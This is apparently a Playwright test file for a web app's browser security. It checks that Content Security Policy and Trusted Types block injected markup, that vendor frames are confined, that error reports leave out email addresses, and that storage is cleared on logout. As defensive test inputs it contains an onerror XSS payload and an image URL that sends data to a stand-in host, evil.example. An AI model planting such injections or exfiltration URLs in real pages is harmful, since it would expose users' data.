import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { becomeClient, expect, logOut, type RunningService, storedKeys, test } from './kantor.ts'

const serverLog = (service: RunningService) => readFileSync(join(service.kantor.dataDirectory, 'server.log'), 'utf8')

test.describe('injected markup', () => {
  test.use({ expectedProblem: /Content Security Policy|TrustedScript|TrustedHTML/ })

  // A server test covers the browser's report of the violation, which the browser sends up to a minute later.
  test('a script injected into a page does not run, and an injected image is not loaded', async ({ page }) => {
    await page.goto('/app/login')
    await expect(page.getByLabel('Email')).toBeVisible()
    const { stolen, refused, blocked } = await page.evaluate(async () => {
      let refused = ''
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.stolen = true">')
      } catch (error) {
        refused = String(error)
      }
      const violation = new Promise<SecurityPolicyViolationEvent>((resolve) => {
        // The refused markup above causes another event, for Trusted Types.
        document.addEventListener('securitypolicyviolation', (event) => event.effectiveDirective === 'img-src' && resolve(event))
      })
      document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/steal?what=everything' }))
      const { effectiveDirective, blockedURI } = await violation
      return { stolen: 'stolen' in window, refused, blocked: `${effectiveDirective} ${blockedURI}` }
    })
    expect(stolen).toBe(false)
    expect(refused).toContain('TrustedHTML')
    expect(blocked).toMatch(/^img-src https:\/\/evil\.example/)
  })
})

test.describe('a vendor’s frame', () => {
  test.use({ expectedProblem: /Content Security Policy.*frame-src/ })

  // The identity provider's package sends its token to whichever page its frame shows.
  test('a vendor’s frame cannot change to a page of a host that is no vendor', async ({ page, service }) => {
    await becomeClient(page, service)
    await page.goto('/app/verification')
    await page.getByRole('button', { name: 'Start' }).first().click()
    const frame = page.frameLocator('iframe[title^="Personal verification"]')
    await expect(frame.getByRole('button', { name: 'Use the sample document' })).toBeVisible()
    const violation = page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(`${event.effectiveDirective} ${event.blockedURI}`))
        }),
    )
    await frame.locator('body').evaluate(() => location.assign('https://evil.example/'))
    expect(await violation).toBe('frame-src https://evil.example')
  })
})

test.describe('a page with an error', () => {
  test.use({ expectedProblem: /broken on purpose/ })

  test('an error in a page is reported to the operator without the email address in it', async ({ page, service }) => {
    await page.goto('/app/login')
    await expect(page.getByLabel('Email')).toBeVisible()
    await page.evaluate(() =>
      setTimeout(() => {
        throw new Error('broken on purpose for anna.nowak@example.com')
      }),
    )
    await expect.poll(() => serverLog(service)).toContain('broken on purpose for …')
    expect(serverLog(service)).not.toContain('anna.nowak')
  })
})

test('after a log-out, the browser keeps nothing of the client', async ({ page, service }) => {
  await page.goto('/app/forgot-password')
  await page.getByLabel('Email').fill('somebody@example.com')
  await page.getByRole('button', { name: 'Send password reset link' }).click()
  await expect(page.getByText('Check your email')).toBeVisible()
  await becomeClient(page, service)
  await page.getByRole('button', { name: 'Get a quote' }).click()
  await page.getByRole('textbox', { name: 'Message' }).fill('a private message')
  await page.getByRole('button', { name: 'Close' }).first().click()
  const storedData = () => page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]))
  expect(await storedData()).toContain('refreshToken')

  await logOut(page)
  await expect(page.getByLabel('Email')).toHaveValue('')
  expect(await storedData()).toBe('[{},{}]')
  expect(await page.evaluate(() => caches.keys())).toEqual([])
  expect(await storedKeys(page)).toEqual([])
})
